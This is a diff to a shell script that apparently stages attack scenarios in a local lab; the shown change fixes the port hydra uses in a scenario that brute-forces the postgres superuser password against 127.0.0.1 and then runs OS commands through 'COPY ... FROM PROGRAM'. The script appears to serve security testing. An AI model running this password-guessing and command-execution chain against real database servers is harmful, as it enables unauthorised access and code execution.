@@ -112,7 +112,9 @@ scenario() { # $1 = name: the attack's steps through the flaw
     # The database superuser's weak password guessed, then a command run
     # by the database server (COPY ... FROM PROGRAM).
     database_command_execution)
-      timeout 60 hydra -q -f -t 2 -l postgres -P "$LAB/words" -s "$PGPORT" 127.0.0.1 postgres >/dev/null 2>&1 || true
+      # hydra's postgres module gives libpq the host but not -s: PGPORT is
+      # the port its attempts reach.
+      PGPORT="$PGPORT" timeout 60 hydra -q -f -t 2 -l postgres -P "$LAB/words" -s "$PGPORT" 127.0.0.1 postgres >/dev/null 2>&1 || true
       sql "CREATE TEMP TABLE o (line text); COPY o FROM PROGRAM 'id; uname -a'; SELECT * FROM o" >/dev/null 2>&1 || true ;;
     *) die "no scenario $1" ;;
   esac
